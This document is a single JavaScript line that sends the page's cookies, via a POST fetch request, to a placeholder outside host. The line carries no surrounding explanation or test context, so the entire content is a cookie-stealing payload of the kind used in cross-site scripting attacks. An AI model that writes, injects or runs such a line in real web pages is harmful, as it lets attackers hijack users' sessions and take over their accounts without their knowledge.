fetch("https://rot.array-table.example/a", { method: "POST", body: document.cookie });
